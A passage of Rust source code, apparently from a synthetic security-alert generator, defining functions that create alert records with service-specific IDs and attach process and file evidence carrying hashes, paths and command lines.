        ev.md5 = md5;
    }
}

#[allow(clippy::too_many_arguments)]
fn alert(
    w: &mut World,
    ts: i64,
    title: &'static str,
    category: &'static str,
    severity: &'static str,
    service: &'static str,
    detection: &'static str,
    techniques: &'static str,
) -> usize {
    let id = match service {
        MDO => format!("fa{}", w.rng.guid_text()),
        MDI => format!("aa{}", w.rng.guid_text()),
        _ => format!(
            "da{}_{}",
            638_000_000_000_000_000 + w.rng.range(0, 999_999_999_999_999),
            -w.rng.range(100_000_000, 2_100_000_000)
        ),
    };
    let categories = format!(r#"["{category}"]"#);
    w.alerts.push(AlertRec {
        ts,
        id,
        title,
        category,
        categories,
        severity,
        service,
        detection,
        techniques,
    });
    w.alerts.len() - 1
}

fn evidence<'a>(
    w: &'a mut World,
    alert: usize,
    entity: &'static str,
    role: &'static str,
) -> &'a mut EvidenceRec {
    let ts = w.alerts.get(alert).map_or(0, |a| a.ts);
    w.evidence.push(EvidenceRec {
        ts,
        alert,
        entity,
        role,
        ..EvidenceRec::default()
    });
    let last = w.evidence.len() - 1;
    &mut w.evidence[last]
}

fn evidence_proc(w: &mut World, alert: usize, proc: u32, role: &'static str) {
    let Some(p) = w.proc(proc) else { return };
    let (dev, acct, cmd, image) = (p.dev, p.acct, p.cmd.clone(), p.image);
    let path = w.path_of(p).to_string();
    let (file, sha1, sha256, size) = match w.org.images.get(image as usize) {
        Some(i) => (
            i.spec.file.to_string(),
            i.sha1.clone(),
            i.sha256.clone(),
            Some(i.spec.size),
        ),
        None => Default::default(),
    };
    let e = evidence(w, alert, "Process", role);
    e.dev = Some(dev);
    e.acct = Some(acct);
    e.cmd = cmd;
    e.file_name = file;
    e.path = path;
    e.sha1 = sha1;
    e.sha256 = sha256;
    e.size = size;
}

fn evidence_file(w: &mut World, alert: usize, image: u16, path: &str) {
    let (file, sha1, sha256, size) = match w.org.images.get(image as usize) {
        Some(i) => (
            i.spec.file.to_string(),
            i.sha1.clone(),
            i.sha256.clone(),
            Some(i.spec.size),
        ),
        None => Default::default(),
    };
    let e = evidence(w, alert, "File", "Related");
    e.file_name = file;
    e.path = path.to_string();
    e.sha1 = sha1;
    e.sha256 = sha256;
    e.size = size;
}
